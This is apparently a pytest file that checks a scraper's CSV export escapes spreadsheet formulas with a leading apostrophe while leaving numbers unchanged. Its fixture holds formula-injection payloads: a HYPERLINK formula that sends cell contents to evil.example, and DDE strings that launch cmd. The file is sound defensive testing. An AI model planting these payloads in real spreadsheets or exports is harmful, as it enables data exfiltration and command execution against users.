"""``scrapy export --format csv`` neutralises what a spreadsheet would run as a formula
(issue 13 row 9): text from a portal starting with = + - @ tab or CR gets a leading
apostrophe (OWASP's rule), while the numbers stay numbers, a signed negative ``change``
of the 2019 template included."""
from __future__ import annotations

import copy
import csv
import io

import pytest

from pipelines.extract.bodymeta import body_name
from pipelines.render.safe import spreadsheet_cell
from pipelines.store import Store
from test_export import export
from test_store import make_item

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "body_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "index_no": "+1+cmd|' /C calc'!A0",
    "doc_no": "-2+3",
    "written_date": "\t=1+1",
    "published_date": "\r=1+1",
}


@pytest.fixture
def hostile(tmp_path, sqlite_url):
    item, record = make_item(1)  # seed 001: the 2019 template, whose `change` is signed
    record = copy.deepcopy(record)
    record["active_disclosure"]["licensing"]["change"] = -3
    record["active_disclosure"]["extra"] = {"=1+2 其他文件": {"-数量": 4}}
    item = dict(item, title=FORMULAS["title"], body_name=FORMULAS["body_name"],
                metadata=dict(item["metadata"], **{k: FORMULAS[k] for k in
                              ("index_no", "doc_no", "written_date", "published_date")}))
    with Store(sqlite_url, tmp_path / "raw") as store:
        store.store_item(item, record)
    return record


def test_formulas_from_a_portal_are_neutralised_numbers_stay_numbers(tmp_path, sqlite_url, hostile):
    data = export(tmp_path, sqlite_url, "csv", True).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert rows
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (key, value)
        assert row["title"] == "'" + FORMULAS["title"]
        # a portal's body name is kept in its official written form (bodymeta.body_name):
        # no spaces, full-width brackets; still a formula to a spreadsheet, so escaped
        assert body_name(FORMULAS["body_name"]).startswith("@")
        assert row["body"] == "'" + body_name(FORMULAS["body_name"])
        assert row["doc_no"] == "'-2+3"
        assert row["written_date"] == "'\t=1+1"
    change = [r for r in rows if (r["row"], r["column"]) == ("licensing", "change")]
    assert [r["value"] for r in change] == ["-3"]  # a number, not '-3
    extra = [r for r in rows if r["row"].startswith("extra.")]
    assert [(r["row"], r["column"], r["value"]) for r in extra] == [("extra.=1+2 其他文件", "'-数量", "4")]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("莱阳市", "莱阳市"), ("", ""), (-3, -3), (-0.5, -0.5), (None, None), ("a=b", "a=b"),
])
def test_leading_quote_rule(value, expected):
    assert spreadsheet_cell(value) == expected
